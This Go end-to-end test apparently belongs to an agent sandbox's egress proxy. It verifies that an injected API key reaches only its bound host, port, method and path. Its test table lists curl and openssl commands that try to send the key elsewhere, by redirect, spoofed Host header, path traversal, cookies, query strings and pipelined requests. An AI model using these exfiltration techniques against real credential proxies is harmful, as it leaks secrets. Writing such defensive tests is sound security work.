//go:build root

package e2e

import (
	"bytes"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/cofferdam/cofferdam/api"
	"github.com/cofferdam/cofferdam/internal/egress/egresstest"
	"github.com/cofferdam/cofferdam/internal/testenv"
)

// wrongPlaces is a server that is bound to a key, beside others that are not.
type wrongPlaces struct {
	keyed
	bound, other, plain int // ports: of api.test with the key, of other.test, of both without TLS
}

// serveWrongPlaces starts the servers and a platform that trusts and reaches them.
func serveWrongPlaces(t *testing.T) (*wrongPlaces, *testenv.Env) {
	t.Helper()
	k := &wrongPlaces{keyed: keyed{held: make(chan struct{}, 100), cut: make(chan struct{}, 100), seen: map[string][]string{}}}
	far := egresstest.NewFar(t)
	bound, other, plain := listen(t), listen(t), listen(t)
	port := func(l net.Listener) int { return l.Addr().(*net.TCPAddr).Port }
	k.bound, k.other, k.plain = port(bound), port(other), port(plain)
	k.port = k.bound
	egresstest.Serve(t, bound, far.Certificate(t, "api.test", time.Now().Add(time.Hour)), true, k)
	egresstest.Serve(t, other, far.Certificate(t, "other.test", time.Now().Add(time.Hour)), true, k)
	server := &http.Server{Handler: k}
	go func() { _ = server.Serve(plain) }()
	t.Cleanup(func() { server.Close() })
	roots := filepath.Join(t.TempDir(), "roots.pem")
	if err := os.WriteFile(roots, far.PEM, 0o644); err != nil {
		t.Fatal(err)
	}
	var private strings.Builder
	for _, host := range []string{"api.test", "other.test", "fake.test"} {
		fmt.Fprintf(&private, "  - {host: %s, ports: [%d, %d, %d]}\n", host, k.bound, k.other, k.plain)
	}
	ns := testenv.Names(t, map[string]string{"api.test.": "127.0.0.1", "other.test.": "127.0.0.1", "fake.test.": "127.0.0.1"})
	return k, testenv.Start(t, testenv.Config{DNS: ns.Addr, Flags: []string{"--roots", roots}, OperatorPolicy: "version: 1\nprivate:\n" + private.String()})
}

// ServeHTTP redirects where the path says so.
func (k *wrongPlaces) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/ok/moved" {
		w.Header().Set("Location", fmt.Sprintf("https://other.test:%d/ok/stolen", k.other))
		w.WriteHeader(http.StatusTemporaryRedirect)
	}
	k.keyed.ServeHTTP(w, r)
}

// wrong are requests that must not carry the key: what they send, and whether
// the request without it may arrive.
func wrong() []struct {
	name, script string
	arrives      string // the path of a request that may arrive, without the key
} {
	return []struct {
		name, script string
		arrives      string
	}{
		{"plain with the bound Host", `curl -sS -H "X-Api-Key: $API_KEY" http://api.test:PLAIN/ok/plain`, ""},
		{"plain to another with the bound Host", `curl -sS -H "X-Api-Key: $API_KEY" -H "Host: api.test" http://other.test:PLAIN/ok/spoofed`, ""},
		{"plain without a placeholder", `curl -sS http://api.test:PLAIN/ok/bare`, "/ok/bare"},
		{"a redirect to another host", `curl -sS -L -H "X-Api-Key: $API_KEY" https://api.test:BOUND/ok/moved`, ""},
		{"another port", `curl -sS -k -H "X-Api-Key: $API_KEY" https://api.test:OTHER/ok/port`, ""},
		{"another method", `curl -sS -X POST -H "X-Api-Key: $API_KEY" https://api.test:BOUND/ok/method`, ""},
		{"another path", `curl -sS -H "X-Api-Key: $API_KEY" https://api.test:BOUND/elsewhere`, ""},
		{"a path that climbs", `curl -sS --path-as-is -H "X-Api-Key: $API_KEY" https://api.test:BOUND/ok/../elsewhere`, ""},
		{"an encoded path", `curl -sS --path-as-is -H "X-Api-Key: $API_KEY" https://api.test:BOUND/ok/%2e%2e/elsewhere`, ""},
		{"in the query", `curl -sS "https://api.test:BOUND/ok/query?k=$API_KEY"`, ""},
		{"in the path", `curl -sS "https://api.test:BOUND/ok/$API_KEY"`, ""},
		{"in a cookie", `curl -sS -b "k=$API_KEY" https://api.test:BOUND/ok/cookie`, ""},
		{"as a password", `curl -sS -u "me:$API_KEY" https://api.test:BOUND/ok/basic`, ""},
		{"as a bearer", `curl -sS -H "Authorization: Bearer $API_KEY" https://api.test:BOUND/ok/bearer`, ""},
		{"twice", `curl -sS -H "X-Api-Key: $API_KEY" -H "X-Api-Key: $API_KEY" https://api.test:BOUND/ok/twice`, ""},
		{"with a key of the agent's own", `curl -sS -H "X-Api-Key: $API_KEY" -H "Authorization: Bearer mine" https://api.test:BOUND/ok/two`, ""},
		{"a key of the agent's own", `curl -sS -H "X-Api-Key: mine" https://api.test:BOUND/ok/own`, ""},
		{"to another host", `curl -sS -H "X-Api-Key: $API_KEY" https://other.test:OTHER/ok/host`, ""},
		{"the bound name at another server", `curl -sS -k -H "X-Api-Key: $API_KEY" --connect-to other.test:OTHER:api.test:BOUND https://other.test:OTHER/ok/crossed`, ""},
		{"the bound name in Host, over HTTP/2", `curl -sS -H "X-Api-Key: $API_KEY" -H "Host: api.test:OTHER" https://other.test:OTHER/ok/authority`, ""},
		{"as HTTP/1.0 after another", `printf 'GET /ok/first HTTP/1.1\r\nHost: other.test:OTHER\r\n\r\nGET /ok/second HTTP/1.1\r\nHost: api.test:BOUND\r\nX-Api-Key: '"$API_KEY"'\r\n\r\n' | openssl s_client -quiet -no_ign_eof -servername other.test -connect other.test:OTHER 2>&1; echo`, "/ok/first"},
		{"a server without the name", `curl -sS -k -H "X-Api-Key: $API_KEY" https://fake.test:BOUND/ok/fake`, ""},
	}
}

// The key leaves for the bound host, port, method and path over verified TLS,
// and nowhere else, whatever the program inside sends (B10).
func TestKeyGoesNowhereElse(t *testing.T) {
	k, e := serveWrongPlaces(t)
	cmd := e.Command("credential", "add", "key", "--host", "api.test", "--port", strconv.Itoa(k.bound), "--path", "/ok/**", "--method", "GET", "--header", "X-Api-Key", "--env", "API_KEY")
	cmd.Stdin = strings.NewReader(keyValue + "\n")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("credential add: %v\n%s", err, out)
	}
	fill := strings.NewReplacer("BOUND", strconv.Itoa(k.bound), "OTHER", strconv.Itoa(k.other), "PLAIN", strconv.Itoa(k.plain))
	var script strings.Builder
	for _, w := range wrong() {
		fmt.Fprintf(&script, "echo; echo '== %s'\n%s -m 60\n", w.name, fill.Replace(strings.TrimSuffix(w.script, "; echo")))
	}
	text := strings.ReplaceAll(script.String(), " 2>&1 -m 60", " 2>&1") + "echo\necho '== right'\n" +
		fill.Replace(`curl -sS -m 60 -H "X-Api-Key: $API_KEY" https://api.test:BOUND/ok/right`)
	var rules strings.Builder
	fmt.Fprintf(&rules, "      - {host: api.test, ports: [%d], credential: key}\n", k.bound)
	fmt.Fprintf(&rules, "      - {host: api.test, ports: [%d, %d], protocol: http}\n", k.other, k.plain)
	fmt.Fprintf(&rules, "      - {host: other.test, ports: [%d, %d], protocol: http}\n", k.other, k.plain)
	fmt.Fprintf(&rules, "      - {host: fake.test, ports: [%d], protocol: http}\n", k.bound)
	got := run(t, e, api.TaskRequest{Repo: bundle(t, e, small(t)), Agent: sh(text), Policy: "version: 1\nagent:\n  network:\n    allow:\n" + rules.String()})
	must(t, e, got, api.Succeeded, "")

	said := log(t, e, got.ID, "agent")
	if seen := k.at("/ok/right"); len(seen) != 1 || seen[0] != keyValue {
		t.Errorf("the right request carried %q", seen)
	}
	// The redirect itself is right: it is where it leads that is not.
	if seen := k.at("/ok/moved"); len(seen) != 1 || seen[0] != keyValue {
		t.Errorf("the redirected request carried %q", seen)
	}
	k.mu.Lock()
	defer k.mu.Unlock()
	arrive := []string{"/ok/right", "/ok/moved"}
	for _, w := range wrong() {
		if w.arrives != "" {
			arrive = append(arrive, w.arrives)
		}
	}
	for path, keys := range k.seen {
		if !slices.Contains(arrive, path) || strings.HasPrefix(path, "/ok/bare") && keys[0] != "" || strings.HasPrefix(path, "/ok/first") && keys[0] != "" {
			t.Errorf("%s arrived with %q", path, keys)
		}
	}
	if n := bytes.Count(k.all.Bytes(), []byte(keyValue)); n != 2 || bytes.Contains(k.all.Bytes(), []byte("placeholder")) {
		t.Errorf("the key arrived %d times, or a placeholder did:\n%s", n, k.all.String())
	}
	if strings.Contains(said, keyValue) || strings.Count(said, "policy.") < len(wrong())-3 {
		t.Errorf("the agent's log:\n%s", said)
	}
}
